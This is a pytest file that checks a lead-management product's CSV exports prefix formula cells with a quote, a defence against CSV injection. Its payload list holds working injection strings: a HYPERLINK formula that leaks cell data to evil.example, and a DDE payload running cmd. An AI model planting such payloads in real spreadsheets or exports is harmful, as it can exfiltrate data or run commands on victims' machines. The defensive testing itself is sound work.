"""CSV exports open as text in a spreadsheet, never as formulas (OWASP "CSV Injection").

The classic payloads go in as a lead's name, its source and its rep (Feedback Friday) or as the
cells of a refused import row (errors.csv), and come out of the real download views with a single
quote in front; every CSV writer in the product goes through leads.csv_safe.
"""

import csv
import io
import re
from pathlib import Path

import pytest
import time_machine

from intake import imports
from leads.csv_safe import FORMULA_STARTS, csv_cell
from leads.models import Lead
from tests import factories
from tests.reports.conftest import at, make_lead

from .conftest import PRODUCT_PACKAGES

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_cell_runs(rows):
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
    return cells


def test_a_formula_cell_gets_a_quote_and_other_cells_are_untouched():
    assert [csv_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    for value in ("Ann", "", "1-2", "O'Neil", "a=b", " +1", 42, -1, None):
        assert csv_cell(value) == value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_feedback_friday_csv_neutralises_formulas(client_for, manager, rep, payload):
    rep.first_name, rep.last_name = payload, ""
    rep.save()
    source = factories.LeadSourceFactory(name=payload)
    lead = make_lead(rep, "2026-06-02 10:00", first_name=payload, last_name="Lead", source=source)
    with time_machine.travel(at("2026-06-05 16:00"), tick=False):
        response = client_for(manager).get("/reports/friday.csv", {"week": "2026-06-01"})
        text = b"".join(response.streaming_content).decode()
    assert response.status_code == 200
    rows = _rows(text)
    cells = _no_cell_runs(rows)
    row = next(r for r in rows if str(lead.pk) in r)
    assert "'" + payload in row  # the source, as typed
    assert "'" + lead.full_name in row
    assert "'" + str(rep) in row
    assert len(cells) == len(rows) * len(rows[0])


def test_the_import_errors_csv_neutralises_formulas(client_for, manager, web_source):
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["First name", "Phone", "Company"])
    for payload in PAYLOADS:
        # A phone that does not exist: every row is refused and comes back in errors.csv.
        writer.writerow([payload, payload, payload])
    job = imports.import_job_create(
        created_by=manager, filename="payloads.csv", raw=upload.getvalue().encode(), source=web_source
    )
    imports.import_job_run(job_id=job.pk)

    response = client_for(manager).get(f"/leads/import/{job.pk}/errors.csv")
    assert response.status_code == 200
    rows = _rows(response.content.decode())
    _no_cell_runs(rows)
    assert rows[0][2:] == ["First name", "Phone", "Company"]
    # The importer reads a CR as a line break ("\r=1" is stored as "\n=1", which no spreadsheet runs).
    uploaded = [p.replace("\r", "\n") for p in PAYLOADS]
    assert [row[2:] for row in rows[1:]] == [[csv_cell(p)] * 3 for p in uploaded]
    assert [csv_cell(p) for p in uploaded[:5]] == ["'" + p for p in PAYLOADS[:5]]


def test_a_quoted_phone_in_errors_csv_imports_again_once_the_row_is_fixed(client_for, manager, web_source):
    job = imports.import_job_create(
        created_by=manager, filename="noname.csv", raw=b"First name,Phone\n,+1 415 555 0103\n", source=web_source
    )
    imports.import_job_run(job_id=job.pk)
    header, row = [r[2:] for r in _rows(client_for(manager).get(f"/leads/import/{job.pk}/errors.csv").content.decode())]
    assert row == ["", "'+1 415 555 0103"]
    fixed = io.StringIO()
    csv.writer(fixed).writerows([header, ["Fixed", row[1]]])
    again = imports.import_job_create(
        created_by=manager, filename="fixed.csv", raw=fixed.getvalue().encode(), source=web_source
    )
    again = imports.import_job_run(job_id=again.pk)
    assert again.created_count == 1
    assert Lead.objects.get(first_name="Fixed").phone == "+14155550103"


def test_every_csv_writer_in_the_product_is_the_safe_one():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(root))
        for package in PRODUCT_PACKAGES
        for path in (root / package).rglob("*.py")
        if writers.search(path.read_text()) and path != root / "leads" / "csv_safe.py"
    ]
    assert not found, f"CSV written without leads.csv_safe.csv_safe_writer: {found}"
